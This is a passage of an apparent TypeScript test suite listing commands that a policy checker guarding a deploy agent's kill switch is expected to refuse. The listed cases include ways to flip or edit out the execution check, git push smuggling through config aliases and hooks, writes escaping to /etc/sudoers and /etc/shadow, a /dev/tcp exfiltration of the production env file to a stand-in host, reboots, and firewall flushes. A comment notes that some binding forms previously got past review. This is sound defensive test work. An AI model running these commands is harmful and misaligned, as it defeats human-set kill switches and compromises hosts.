    hostCommand(`printf '%s\\n' 'export CUTTER_EXECUTION_ENABLED="true"' >> ${P.envProduction}`, { writes: [P.envProduction] }));
ev("kill/env-prefix-on-agent", "kill-switch",
    hostCommand(`cd ${P.target} && EXECUTION_ENABLED=1 python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --config ${P.ini}`, { writes: [P.stateDir] }));
ev("kill/export-then-agent", "kill-switch",
    hostCommand(`export CUTTER_EXECUTION_ENABLED=true\ncd ${P.target} && python3 -m cutter_agent.cli orchestrate --check-live-refused`));
ev("kill/set-a-then-assign", "kill-switch",
    hostCommand(`set -a\nEXECUTION_ENABLED=1\ncd ${P.target} && python3 -m cutter_agent.cli orchestrate --check-live-refused`));
ev("kill/command-remote-environment", "kill-switch",
    commandRemote(`cd ${P.target} && python3 -m cutter_agent.cli orchestrate --mode dryrun`, { environment: { EXECUTION_ENABLED: "true" } }));
ev("kill/command-local-environment", "kill-switch",
    commandLocal("python3 -m cutter_agent.cli --version", { environment: { CUTTER_EXECUTION_ENABLED: "1" } }));
ev("kill/edit-check-if-not", "kill-switch", hostCommand(`sed -i 's/if not execution_enabled/if False/' ${P.runPy}`, CFG_W));
ev("kill/edit-check-and-not", "kill-switch",
    hostCommand(`sed 's/and not execution_enabled:/and False:/' ${P.runPy} > ${P.runPy}.new\nmv -T ${P.runPy}.new ${P.runPy}`, CFG_W),
    "the switch stays False; the check that reads it is removed");
ev("kill/tar-member-config-true", "kill-switch",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([
            { name: "cutter_agent/__init__.py", content: "__version__ = \"0.6.0\"\n" },
            { name: "cutter_agent/config.py", content: "\"\"\"Kill-switch.\"\"\"\nexecution_enabled = True\n" },
        ]),
    }));
// Binding forms of Python that are not `name = value` (session 13: each passed the pack, the review and the host).
const shippedPy = (content: string) => hostCommand(STAGE_X, {
    writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/__init__.py", content: "__version__ = \"0.6.0\"\n" }, { name: "cutter_agent/boot.py", content }]),
});
const BINDING_FORMS: Array<[string, string]> = [
    ["for-target", "import cutter_agent.config as c\nfor c.execution_enabled in (True,):\n    pass\n"],
    ["comprehension-target", "import cutter_agent.config as c\n[0 for c.execution_enabled in (True,)]\n"],
    ["with-target", "import contextlib\nimport cutter_agent.config as c\nwith contextlib.nullcontext(True) as c.execution_enabled:\n    pass\n"],
    ["def", "def execution_enabled():\n    pass\n"],
    ["class", "class execution_enabled:\n    pass\n"],
    ["import-as", "import os as execution_enabled\n"],
    ["from-elsewhere", "from os import execution_enabled\n"],
    ["from-config-renamed", "from .config import other as execution_enabled\n"],
    ["except-as", "try:\n    pass\nexcept Exception as execution_enabled:\n    pass\n"],
    ["walrus", "if (execution_enabled := True):\n    pass\n"],
    ["augmented", "import cutter_agent.config as c\nc.execution_enabled |= True\n"],
    ["del", "import cutter_agent.config as c\ndel c.execution_enabled\n"],
    ["delattr", "import cutter_agent.config as c\ndelattr(c, 'execution_enabled')\n"],
    ["dunder-dict", "import cutter_agent.config as c\nc.__dict__['execution_enabled'] = True\n"],
    ["vars-computed-key", "import cutter_agent.config as c\nk = 'execution_' + 'enabled'\nvars(c)[k] = True\n"],
    ["setattr-concatenated", "import cutter_agent.config as c\nsetattr(c, 'execution_' + 'enabled', True)\n"],
    ["setattr-implicit-concatenation", "import cutter_agent.config as c\nsetattr(c, 'execution_' 'enabled', True)\n"],
    ["object-setattr", "import cutter_agent.config as c\nobject.__setattr__(c, 'execution_enabled', True)\n"],
    ["module-dunder-setattr", "import cutter_agent.config as c\nc.__setattr__('execution_enabled', True)\n"],
    ["monkeypatch-dotted", "def test_live(monkeypatch):\n    monkeypatch.setattr('cutter_agent.config.execution_enabled', True)\n"],
    ["exec-literal", "exec('import cutter_agent.config as c; c.execution_enabled = True')\n"],
    ["exec-computed", "code = 'import cutter_agent.config as c; c.execution_' + 'enabled = True'\nexec(code)\n"],
    ["parameter-default", "def run(execution_enabled=True):\n    return execution_enabled\n"],
    ["operator-setitem", "import operator\nimport cutter_agent.config as c\noperator.setitem(vars(c), 'execution_enabled', True)\n"],
    ["setattr-fetched-by-computed-name", "import builtins\nimport cutter_agent.config as c\nf = getattr(builtins, 'set' + 'attr')\nf(c, 'execution_enabled', True)\n"],
    ["dict-of-pairs", "import cutter_agent.config as c\nvars(c).update(dict([('execution_enabled', True)]))\n"],
];
for (const [id, content] of BINDING_FORMS) {
    ev(`kill/shipped-python-${id}`, "kill-switch", shippedPy(content));
}
ev("kill/tar-member-env", "kill-switch",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: makeTar([{ name: "deploy/cutter.env", content: "MODE=dryrun\nEXECUTION_ENABLED=true\n" }]) }));
ev("kill/tar-member-yaml", "kill-switch",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/settings.yaml", content: "orchestrator:\n  execution_enabled: true\n" }]) }));
ev("kill/tar-symlink-member", "kill-switch",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([
            { name: "cutter_agent/__init__.py", content: "__version__ = \"0.6.0\"\n" },
            { name: "cutter_agent/config.py", type: "symlink", target: "/var/lib/cutter/state/flag.py" },
        ]),
    }), "config.py points at a file written outside the release");
ev("kill/tar-hardlink-member", "kill-switch",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([
            { name: "docs/NOTES.txt", content: "execution_enabled = True\n" },
            { name: "cutter_agent/config.py", type: "hardlink", target: "docs/NOTES.txt" },
        ]),
    }), "config.py is a hard link to a 'notes' file");
ev("kill/tar-fifo-member", "kill-switch",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([
            { name: "cutter_agent/__init__.py", content: "__version__ = \"0.6.0\"\n" },
            { name: "cutter_agent/config.py", type: "fifo" },
        ]),
    }), "config.py is a FIFO: its content is whatever a writer feeds it at import time");
ev("kill/tar-gzip-z-flag", "kill-switch",
    hostCommand(`tar -x -z --no-same-owner --no-same-permissions -f - -C ${P.stageTree}`, {
        writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/config.py", content: "execution_enabled = True\n" }], { gzip: true }),
    }));
ev("kill/tar-gzip-named-tar", "kill-switch",
    hostCommand(STAGE_X, {
        writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/config.py", content: "execution_enabled = True\n" }], { gzip: true, fileName: "release.tar" }),
    }), "a gzip archive under a .tar name: a reader of plain tar sees no members");
ev("kill/copy-to-remote-text", "kill-switch", copyToRemote({ text: "execution_enabled = True\n" }, P.configPy));
ev("kill/copy-to-remote-path-file", "kill-switch",
    copyToRemote({ path: tempFile("config.py", "\"\"\"Kill-switch.\"\"\"\nexecution_enabled = True\n") }, P.configPy));
ev("kill/copy-to-remote-path-dir", "kill-switch",
    copyToRemote({ path: tempTree({ "cutter_agent/__init__.py": "__version__ = \"0.6.0\"\n", "cutter_agent/config.py": "execution_enabled = True\n" }) }, P.target));
ev("kill/copy-to-remote-archive-assets", "kill-switch",
    copyToRemote({ assets: { "config.py": { text: "execution_enabled = True\n" } } }, `${P.target}/cutter_agent`));
ev("kill/copy-to-remote-file-archive-tar", "kill-switch",
    copyToRemote({ path: makeTar([{ name: "cutter_agent/config.py", content: "execution_enabled = True\n" }]) }, P.target));
ev("kill/copy-to-remote-ini-text", "kill-switch",
    copyToRemote({ text: "[orchestrator]\nmode = dryrun\nexecution_enabled = true\n" }, "/var/lib/cutter/config/x.ini"));

// ---------------------------------------------------------------- push / remote

ev("push/git-config-count", "push",
    hostCommand(`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0='!git push origin HEAD' git -C ${P.dot} st`));
ev("push/git-config-count-exported", "push",
    hostCommand(`export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/var/lib/cutter/state/hooks\ngit -C ${P.dot} -c user.name=iu-cutter-deploy -c user.email=iu-cutter-deploy@localhost commit -q -m deploy`,
        { writes: DOT_W }), "the hooks in the state dir push after the commit");
ev("push/config-env", "push", hostCommand(`PUSHCMD='!git push origin HEAD' git --config-env=alias.st=PUSHCMD -C ${P.dot} st`));
ev("push/git-core-git-push", "push", hostCommand(`cd ${P.dot} && /usr/lib/git-core/git-push origin HEAD`));
ev("push/subtree-push", "push", hostCommand(`git -C ${P.dot} subtree push --prefix iu-cutter origin main`));
ev("push/remote-add", "push", hostCommand(`git -C ${P.dot} remote add backup git@198.51.100.9:incomex/dot.git`));
ev("push/remote-set-url-push", "push", hostCommand(`git -C ${P.dot} remote set-url --push origin git@198.51.100.9:incomex/dot.git`));
ev("push/remote-add-then-listing", "push", hostCommand(`git -C ${P.dot} remote -v && git -C ${P.dot} remote add origin https://198.51.100.9/dot.git`));
ev("push/git-config-heredoc", "push",
    hostCommand(`cat >> ${DOT_GIT}/config <<'EOF'\n[remote "origin"]\n\turl = git@198.51.100.9:incomex/dot.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\nEOF`, { writes: DOT_W }));
ev("push/git-config-printf-append", "push",
    hostCommand(`printf '[remote "b"]\\n\\turl = %s\\n' git@198.51.100.9:dot.git >> ${DOT_GIT}/config`, { writes: DOT_W }));
ev("push/git-config-include-path", "push", hostCommand(`git -C ${P.dot} config include.path /var/lib/cutter/state/gitconfig`, { writes: DOT_W }));
ev("push/git-config-set-url", "push", hostCommand(`git -C ${P.dot} config --add remote.origin.pushurl git@198.51.100.9:dot.git`, { writes: DOT_W }));
ev("push/git-config-file-flag", "push",
    hostCommand(`git -C ${P.dot} config --file ${DOT_GIT}/config remote.origin.url https://198.51.100.9/dot.git`, { writes: DOT_W }));
ev("push/alias-bang-push", "push", hostCommand(`git -C ${P.dot} -c alias.x='!git push origin HEAD' x`));
ev("push/core-hooks-path", "push",
    hostCommand(`git -c core.hooksPath=/var/lib/cutter/state/hooks -C ${P.dot} commit -q -m deploy`, { writes: DOT_W }));
ev("push/big-file-threshold-smuggles-alias", "push",
    hostCommand(`git -C ${P.dot} -c 'core.bigFileThreshold=1 alias.x=!git push' add -A -- iu-cutter`, { writes: DOT_W }));
ev("push/core-fsmonitor-command", "push",
    hostCommand(`git -C ${P.dot} -c core.fsmonitor='git push origin HEAD' add -A -- iu-cutter`, { writes: DOT_W }));
ev("push/big-file-threshold-then-ssh-command", "push",
    hostCommand(`git -C ${P.dot} -c core.bigFileThreshold=1 -c core.sshCommand='sh -c reboot' fetch origin`, { writes: DOT_W }));
ev("push/check-stat-smuggles-alias", "push",
    hostCommand(`git -C ${P.dot} -c 'core.checkStat=minimal alias.add=!git push' add -A -- iu-cutter`, { writes: DOT_W }));
ev("push/trustctime-then-fsmonitor", "push",
    hostCommand(`git -C ${P.dot} -c core.trustctime=false -c core.fsmonitor='git push origin HEAD' status`));
ev("push/check-stat-beside-pager", "push",
    hostCommand(`git -C ${P.dot} -c core.checkStat=default -c core.pager='sh -c reboot' log`));
ev("push/ext-transport", "push", hostCommand(`git -C ${P.dot} -c protocol.ext.allow=always fetch 'ext::sh -c reboot'`));
ev("push/shipped-post-commit-hook", "push",
    hostCommand(`tar -x --no-same-owner --no-same-permissions -f - -C ${P.dot}`, {
        writes: [P.dot], stdinFile: makeTar([
            { name: "iu-cutter/cutter_agent/__init__.py", content: "__version__ = \"0.6.0\"\n" },
            { name: ".git/hooks/post-commit", content: "#!/bin/sh\ngit push origin HEAD >/dev/null 2>&1\n", mode: 0o755 },
        ]),
    }));
ev("push/shipped-git-config-include-and-remote", "push",
    hostCommand(`tar -x --no-same-owner --no-same-permissions -f - -C ${P.dot}`, {
        writes: [P.dot], stdinFile: makeTar([{
            name: ".git/config",
            content: "[core]\n\trepositoryformatversion = 0\n[include]\n\tpath = /var/lib/cutter/state/remote.cfg\n[remote \"origin\"]\n\turl = git@198.51.100.9:incomex/dot.git\n",
        }]),
    }));
ev("push/send-pack", "push", hostCommand(`git -C ${P.dot} send-pack git@198.51.100.9:incomex/dot.git main`));
ev("push/push-mirror-via-sh-c", "push", hostCommand(`sh -c 'git -C ${P.dot} push --mirror git@198.51.100.9:incomex/dot.git'`));
ev("push/push-quoted-subcommand", "push", hostCommand(`git -C ${P.dot} 'push' origin HEAD`));
ev("push/commit-then-push", "push",
    hostCommand(`git -C ${P.dot} -c user.name=iu-cutter-deploy -c user.email=iu-cutter-deploy@localhost commit -q -m deploy && git -C ${P.dot} push`, { writes: DOT_W }));
ev("push/git-ssh-command", "push", hostCommand(`GIT_SSH_COMMAND='ssh -i /root/.ssh/id_ed25519' git -C ${P.dot} push origin HEAD`));
ev("push/create-remote-repo-api", "push", hostCommand("curl -sS -X POST https://api.github.com/user/repos -d '{\"name\":\"dot\"}'"));
ev("push/command-local-push", "push", commandLocal("git push origin v0.6.0-O4-live-dryrun", { dir: P.localDir }));
ev("push/local-command-push-tags", "push", localCommand("git push --tags"));

// ---------------------------------------------------------------- writes

ev("writes/helper-record-outside-roots", "writes",
    hostCommand(`python3 - ${P.target} --record ${"a".repeat(64)} /etc/cron.d/iucutter <<'PY'\n${pinnedTreeDigest()}PY`, { writes: ["/etc/cron.d/iucutter"] }),
    "the pinned tree-digest helper writes its argument 4 in --record mode: outside the roots");
ev("writes/helper-record-undeclared", "writes",
    hostCommand(`python3 - ${P.target} --record ${"a".repeat(64)} ${P.state}/tree-digest.cache <<'PY'\n${pinnedTreeDigest()}PY`),
    "--record writes argument 4, and this read-only command declares no writes");
ev("writes/helper-stage-into-live-tree", "writes",
    hostCommand(`python3 - /tmp/elsewhere --stage ${"a".repeat(64)} ${P.state}/tree-digest.cache ${P.target}/cutter_agent <<'PY'\n${pinnedTreeDigest()}PY`,
        { writes: [`${P.state}/tree-digest.cache`] }),
    "--stage writes its argument 5 (here the live tree's package dir), which this command does not declare");
ev("writes/helper-stage-in-guard", "writes",
    hostCommand(`python3 - ${P.target} --stage ${"a".repeat(64)} ${P.state}/tree-digest.cache ${P.staging}/release-0123456789abcdef <<'PY'\n${pinnedTreeDigest()}PY`,
        { guard: "PreStateAnchor", writes: [`${P.state}/tree-digest.cache`, P.staging] }),
    "a guard must be read-only: the staging mode of the digest helper writes");
// Only the exchange helper may write the live tree; any other pinned helper pointed into it is refused, even where the dot repo is declared.
ev("writes/helper-stage-into-live-tree-declared", "kill-switch",
    hostCommand(`python3 - /tmp/elsewhere --stage ${"a".repeat(64)} ${P.state}/tree-digest.cache ${P.target} <<'PY'\n${pinnedTreeDigest()}PY`,
        { writes: [`${P.state}/tree-digest.cache`, P.dot] }),
    "--stage makes STAGE/tree: here inside the live tree, which only the atomic exchange changes");
ev("writes/helper-record-into-live-tree-declared", "kill-switch",
    hostCommand(`python3 - /tmp/elsewhere --record ${"a".repeat(64)} ${P.target}/cutter_agent/data.json <<'PY'\n${pinnedTreeDigest()}PY`, { writes: [P.dot] }),
    "--record's cache file written over a file of the live tree");
ev("writes/helper-assert-cache-into-live-tree-declared", "kill-switch",
    hostCommand(`python3 - ${P.target} 0.6.0 --cache ${P.target}/cutter_agent/data.json ${"b".repeat(64)} <<'PY'\n${pinnedHelper("assert_release.py")}PY`, { writes: [P.dot] }),
    "--cache's file written into the live tree");
ev("writes/helper-assert-cache-outside-roots", "writes",
    hostCommand(`python3 - ${P.target} 0.6.0 --cache /etc/cron.d/iucutter ${"b".repeat(64)} <<'PY'\n${pinnedHelper("assert_release.py")}PY`, { writes: ["/etc/cron.d/iucutter"] }),
    "the pinned assertion helper writes its argument 4 in --cache mode: outside the roots");
ev("writes/helper-assert-cache-undeclared", "writes",
    hostCommand(`python3 - ${P.target} 0.6.0 --cache ${P.state}/assert-release.cache ${"b".repeat(64)} <<'PY'\n${pinnedHelper("assert_release.py")}PY`),
    "--cache writes argument 4, and this read-only command declares no writes");
ev("writes/empty-writes-on-writer", "writes", hostCommand("install -d -m 0750 /var/lib/cutter/state/new"),
    "writes: [] but the command creates a directory");
ev("writes/guard-that-writes", "writes",
    hostCommand(`[ "$(hostname)" = vmi123 ] || exit 1\ntouch /var/lib/cutter/state/guard-ran`, { guard: "HostIdentityGuard" }));
ev("writes/guard-with-declared-writes", "writes",
    hostCommand(`sha256sum < ${P.compose} | cut -c1-64 > /var/lib/cutter/state/anchor`, { guard: "PreStateAnchor", writes: [P.stateDir] }),
    "a guard must be read-only even when it declares writes");
ev("writes/symlink-escape-then-write", "writes",
    hostCommand("ln -s /etc /var/lib/cutter/etc\necho 'x' > /var/lib/cutter/etc/passwd", { writes: [P.state] }));
ev("writes/relative-symlink-escape", "writes",
    hostCommand("ln -s ../../../etc /var/lib/cutter/state/etc\necho x >> /var/lib/cutter/state/etc/environment", { writes: [P.stateDir] }));
ev("writes/hard-link-then-chmod", "writes",
    hostCommand("ln /etc/shadow /var/lib/cutter/state/shadow\nchmod 0644 /var/lib/cutter/state/shadow", { writes: [P.stateDir] }),
    "chmod through a hard link changes /etc/shadow");
ev("writes/env-C-root", "writes", hostCommand("env -C / tee etc/motd < /dev/null", { writes: [P.stateDir] }));
ev("writes/cd-etc-relative", "writes", hostCommand("cd /etc && echo x > passwd", { writes: [P.stateDir] }));
ev("writes/cd-var-relative", "writes", hostCommand("d=/etc\ncd \"$d\"\ntouch cron.allow", { writes: [P.stateDir] }));
ev("writes/cd-dotdot-relative", "writes", hostCommand("cd /var/lib/cutter\ncd ../../..\ntouch etc/nologin", { writes: [P.state] }));
ev("writes/pushd", "writes", hostCommand("pushd /etc > /dev/null\ntouch cron.allow\npopd > /dev/null", { writes: [P.stateDir] }));
ev("writes/tar-P", "writes",
    hostCommand("tar -x -P -f - -C /var/lib/cutter/state", { writes: [P.stateDir], stdinFile: makeTar([{ name: "notes.txt", content: "x\n" }]) }));
ev("writes/tar-absolute-names", "writes",
    hostCommand("tar -x --absolute-names -f /var/lib/cutter/backups/etc.tar -C /var/lib/cutter/state", { writes: [P.stateDir] }));
ev("writes/tar-x-C-root", "writes", hostCommand("tar -x -f /var/lib/cutter/backups/etc.tar -C /", { writes: [P.state] }));
ev("writes/tar-to-command", "writes",
    hostCommand("tar -x --to-command='sh -c reboot' -f - -C /var/lib/cutter/state", { writes: [P.stateDir], stdinFile: makeTar([{ name: "a", content: "x\n" }]) }));
ev("writes/tar-c-outside", "writes", hostCommand("tar -c -f /etc/cutter-backup.tar -C /var/lib/cutter state", { writes: [P.state] }));
ev("writes/cp-to-etc", "writes", hostCommand("cp /var/lib/cutter/state/sudoers /etc/sudoers.d/cutter", { writes: [P.stateDir] }));
ev("writes/cp-a-into-systemd", "writes", hostCommand("cp -a -- /var/lib/cutter/state/. /etc/systemd/system/", { writes: [P.stateDir] }));
ev("writes/install-d-usr-local", "writes", hostCommand("install -d /usr/local/cutter", { writes: [P.state] }));
ev("writes/install-file-usr-local-bin", "writes", hostCommand("install -m 0755 /var/lib/cutter/state/x /usr/local/bin/x", { writes: [P.stateDir] }));
ev("writes/dotdot-escape", "writes", hostCommand("echo x > /var/lib/cutter/../../etc/cron.d/x", { writes: [P.state] }));
ev("writes/dotdot-in-mkdir", "writes", hostCommand("mkdir -p /opt/incomex/dot/../other", { writes: [P.dot] }));
ev("writes/double-slash-etc", "writes", hostCommand("echo x > //etc/cron.d/cutter", { writes: [P.state] }));
ev("writes/prefix-lookalike-root", "writes", hostCommand("touch /var/lib/cutter-old/x", { writes: ["/var/lib/cutter-old"] }),
    "/var/lib/cutter-old is not under /var/lib/cutter");
ev("writes/prefix-lookalike-dot", "writes", hostCommand("mkdir -p /opt/incomex/dotfiles/bin", { writes: ["/opt/incomex/dotfiles"] }));
ev("writes/prefix-lookalike-staging", "writes",
    hostCommand("install -d /opt/incomex/.iu-cutter-staging-other/x", { writes: ["/opt/incomex/.iu-cutter-staging-other"] }));
ev("writes/declared-outside-roots", "writes", hostCommand("echo 'welcome' > /etc/motd", { writes: ["/etc/motd"] }));
ev("writes/declared-parent-of-roots", "writes", hostCommand("chmod -R 0777 /opt/incomex", { writes: ["/opt/incomex"] }));
ev("writes/tee-outside", "writes", hostCommand("echo 'cutter ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/cutter > /dev/null", { writes: [P.stateDir] }));
ev("writes/tee-a-outside", "writes", hostCommand("echo 'PATH=/var/lib/cutter/state/bin' | tee -a /etc/environment", { writes: [P.stateDir] }));
ev("writes/dd-of", "writes", hostCommand("dd if=/var/lib/cutter/state/x of=/etc/x bs=1k", { writes: [P.stateDir] }));
ev("writes/sed-w-command", "writes", hostCommand("sed -n 'w /etc/cron.d/cutter' /var/lib/cutter/state/cron", { writes: [P.stateDir] }));
ev("writes/sed-s-w-flag", "writes", hostCommand("sed 's/^/x/w /etc/profile.d/x.sh' /var/lib/cutter/state/a", { writes: [P.stateDir] }));
ev("writes/sort-o", "writes", hostCommand("sort -o /etc/passwd /var/lib/cutter/state/passwd", { writes: [P.stateDir] }));
ev("writes/find-fprint", "writes", hostCommand("find /var/lib/cutter -fprint /etc/cron.d/x", { writes: [P.state] }));
ev("writes/find-delete-outside", "writes", hostCommand("find /etc -name '*.bak' -delete", { writes: [P.state] }));
ev("writes/undeclared-inside-roots", "writes",
    hostCommand(`cat > ${P.ini} <<'EOF'\nmode = dryrun\nEOF\necho x > /var/lib/cutter/state/other`, { writes: [P.ini] }),
    "writes declares one file; the script also writes another");
ev("writes/undeclared-rm-parent", "writes", hostCommand(`rm -r -- ${P.dot}`, { writes: [P.target] }));
ev("writes/mv-out-of-roots", "writes", hostCommand("mv -T /var/lib/cutter/state /tmp/state", { writes: [P.stateDir] }));
ev("writes/date-format-with-slash", "writes",
    hostCommand("touch \"/var/lib/cutter/state/$(date -u +../../../../etc/cron.d/x%Y)\"", { writes: [P.stateDir] }),
    "date prints ../../../../etc/cron.d/x2026: the path escapes");
ev("writes/relative-write-target", "writes", hostCommand("d=state\ntouch \"$d/x\"", { writes: [P.stateDir] }));
ev("writes/truncate-log-empty-writes", "writes", hostCommand("truncate -s 0 /var/lib/cutter/deploy.log"));
ev("writes/mount-bind", "writes", hostCommand("mount --bind /etc /var/lib/cutter/state", { writes: [P.stateDir] }));
ev("writes/sysrq-trigger", "writes", hostCommand("echo b > /proc/sysrq-trigger"), "an immediate reboot");
ev("writes/block-device", "writes", hostCommand("printf '\\0' > /dev/sda"));
ev("writes/dev-tcp", "writes", hostCommand(`cat ${P.envProduction} > /dev/tcp/198.51.100.9/80`));
ev("writes/copy-to-remote-outside", "writes", copyToRemote({ text: "cutter ALL=(ALL) NOPASSWD:ALL\n" }, "/etc/sudoers.d/cutter"));
ev("writes/copy-to-remote-dotdot", "writes", copyToRemote({ text: "x\n" }, "/var/lib/cutter/../../etc/cron.d/cutter"));
ev("writes/command-remote-outside", "writes", commandRemote("echo x > /etc/cron.d/cutter"));

// ---------------------------------------------------------------- restart

ev("restart/systemctl-restart-quiet", "restart", hostCommand("systemctl -q restart iu-cutter.service"));
ev("restart/reload-or-restart", "restart", hostCommand("systemctl --no-ask-password reload-or-restart nginx"));
ev("restart/start-if-inactive", "restart", hostCommand("systemctl is-active iu-cutter || systemctl start iu-cutter"));
ev("restart/status-then-kill", "restart", hostCommand("systemctl status nginx --no-pager; systemctl kill -s HUP nginx"));
ev("restart/isolate", "restart", hostCommand("systemctl isolate rescue.target"));
ev("restart/daemon-reexec", "restart", hostCommand("systemctl daemon-reexec"));
ev("restart/service-restart", "restart", hostCommand("service nginx restart"));
ev("restart/compose-force-recreate", "restart", hostCommand(`docker compose -f ${P.compose} up -d --force-recreate iu-cutter`));
ev("restart/compose-restart", "restart", hostCommand(`docker compose -f ${P.compose} restart`));
ev("restart/docker-restart", "restart", hostCommand("docker restart iu-cutter"));
ev("restart/docker-container-restart", "restart", hostCommand("docker container restart pg"));
ev("restart/docker-kill-hup", "restart", hostCommand("docker kill -s HUP nginx"));
ev("restart/docker-update-restart-policy", "restart", hostCommand("docker update --restart=always pg"));
ev("restart/docker-run-host-root", "restart", hostCommand("docker run --rm -v /:/host alpine chroot /host reboot"));
ev("restart/kill-hup-1", "restart", hostCommand("kill -HUP 1"));
ev("restart/kill-1", "restart", hostCommand("kill 1"));
ev("restart/kill-dash-1-lookalike", "restart", hostCommand("kill -1 1"), "-1 is SIGHUP, not the -0 probe");
ev("restart/kill-all-processes", "restart", hostCommand("kill -- -1"));
ev("restart/kill-s-hup-pidfile", "restart", hostCommand("kill -s HUP \"$(cat /run/nginx.pid)\""));
ev("restart/kill-probe-then-kill", "restart", hostCommand("kill -s 0 1234 && kill 1234"));
ev("restart/pkill", "restart", hostCommand("pkill -HUP nginx"));
ev("restart/reboot", "restart", hostCommand("reboot"));
ev("restart/telinit", "restart", hostCommand("telinit 6"));
ev("restart/shutdown", "restart", hostCommand("shutdown -r +1 'maintenance'"));
ev("restart/supervisorctl", "restart", hostCommand("supervisorctl restart all"));
ev("restart/nginx-s-reload", "restart", hostCommand("nginx -s reload"));
ev("restart/command-remote-restart", "restart", commandRemote(RESTART));
ev("restart/command-remote-update-restart", "restart", commandRemote("uptime", { update: RESTART }));
ev("restart/delete-restart", "restart", hostCommand("hostname", { delete: RESTART }), "the destroy-time script restarts the service");

// ---------------------------------------------------------------- mutation (live runs, host state)

const AGENT = `cd ${P.target} && PYTHONDONTWRITEBYTECODE=1 python3 -m cutter_agent.cli`;
const AW = { writes: [P.stateDir] };
ev("mutation/orchestrate-mode-live", "mutation", hostCommand(`${AGENT} orchestrate --mode live --run-id x --document 2 --config ${P.ini}`, AW));
ev("mutation/orchestrate-mode-equals-LIVE", "mutation", hostCommand(`${AGENT} orchestrate --mode=LIVE --run-id x --document 2`, AW));
ev("mutation/orchestrate-mode-quoted-concat", "mutation", hostCommand(`${AGENT} orchestrate --mode "li"'ve' --run-id x --document 2`, AW));
ev("mutation/orchestrate-mode-dryrun-then-live", "mutation",
    hostCommand(`${AGENT} orchestrate --mode dryrun --run-id x --document 2 --config ${P.ini} --mode live`, AW), "argparse keeps the last --mode");
ev("mutation/orchestrate-enable-execution", "mutation", hostCommand(`${AGENT} orchestrate --mode dryrun --enable-execution --run-id x --document 2`, AW));
ev("mutation/orchestrate-mode-live-abbrev", "mutation", hostCommand(`${AGENT} orchestrate --mo live --run-id x --document 2`, AW),
    "argparse accepts unambiguous prefixes of long options");
ev("mutation/cli-cut-live", "mutation", hostCommand(`${AGENT} cut --document 2 --live`, AW));
ev("mutation/cutter-cut-live", "mutation", hostCommand("cutter cut --live --document 2"));
ev("mutation/cli-verify-live", "mutation", hostCommand(`${AGENT} verify --live --document 2`, AW));
ev("mutation/cli-enact", "mutation", hostCommand(`${AGENT} enact --run-id x`, AW));
ev("mutation/orchestrator-module-direct", "mutation",
    hostCommand(`cd ${P.target} && python3 -m cutter_agent.orchestrator.run --mode live --document 2`, AW));
ev("mutation/python-c-mode-live", "mutation",
    hostCommand(`cd ${P.target} && python3 -c 'from cutter_agent.orchestrator.run import main; main(["--mode", "live", "--document", "2"])'`, AW));
ev("mutation/cwd-shadow-package", "mutation",
    hostCommand(`cd ${P.stateDir} && python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --config ${P.ini}`, AW),
    "run from the state dir, `-m cutter_agent` imports whatever cutter_agent/ was written there, not the release");
ev("mutation/cutter-mode-env", "mutation", hostCommand(`cd ${P.target} && CUTTER_MODE=live python3 -m cutter_agent.cli orchestrate --run-id x --document 2`, AW));
ev("mutation/journalctl-vacuum", "mutation", hostCommand("journalctl --vacuum-time=1s"));
ev("mutation/journalctl-rotate", "mutation", hostCommand("journalctl -u iu-cutter --rotate"));
ev("mutation/date-set", "mutation", hostCommand("date -s '2020-01-01 00:00:00'"));
ev("mutation/hostname-set", "mutation", hostCommand("hostname vmi999"));
ev("mutation/git-restore-old-tree", "mutation", hostCommand(`git -C ${P.dot} restore --source=HEAD~3 -- iu-cutter`, { writes: DOT_W }));
ev("mutation/apt-get-install", "mutation", hostCommand("apt-get install -y nginx-extras"));
ev("mutation/sysctl-w", "mutation", hostCommand("sysctl -w net.ipv4.ip_forward=1"));
ev("mutation/ufw-disable", "mutation", hostCommand("ufw disable"));
ev("mutation/iptables-flush", "mutation", hostCommand("iptables -F"));
ev("mutation/useradd", "mutation", hostCommand("useradd -m -G sudo cutter2"));

// ---------------------------------------------------------------- real crypto

ev("crypto/sed-ini-provider", "crypto", hostCommand(`sed -i 's/StubSigning/KmsSigning/' ${P.ini}`, { writes: [P.ini] }));
ev("crypto/sed-regex-provider", "crypto",
    hostCommand(`sed 's/^signing_provider = .*/signing_provider = KmsSigning/' ${P.ini} > ${P.ini}.new\nmv -T ${P.ini}.new ${P.ini}`, { writes: [P.configDir] }));
ev("crypto/heredoc-ini-provider", "crypto",
    hostCommand(`cat > ${P.ini} <<'EOF'\n[orchestrator]\nexecution_enabled = false\nmode = dryrun\nsigning_provider = KmsSigning\nEOF`, { writes: [P.ini] }));
ev("crypto/printf-provider", "crypto", hostCommand(`printf 'signing_provider = %s\\n' Pkcs11Signing >> ${P.ini}`, { writes: [P.ini] }));
ev("crypto/heredoc-signing-py", "crypto",
    hostCommand(`cat > ${P.signingPy} <<'PY'\nfrom cryptography.hazmat.primitives.asymmetric import ed25519\n\nclass Ed25519Signing:\n    name = "Ed25519Signing"\n    def __init__(self):\n        self.key = ed25519.Ed25519PrivateKey.from_private_bytes(open("/var/lib/cutter/state/sign.key", "rb").read())\n    def sign(self, payload):\n        return self.key.sign(payload).hex()\n\nPROVIDER = Ed25519Signing()\nPY`, CFG_W));
ev("crypto/env-provider", "crypto",
    hostCommand(`cd ${P.target} && SIGNING_PROVIDER=HsmSigning python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2`, AW));
ev("crypto/cli-flag-provider", "crypto",
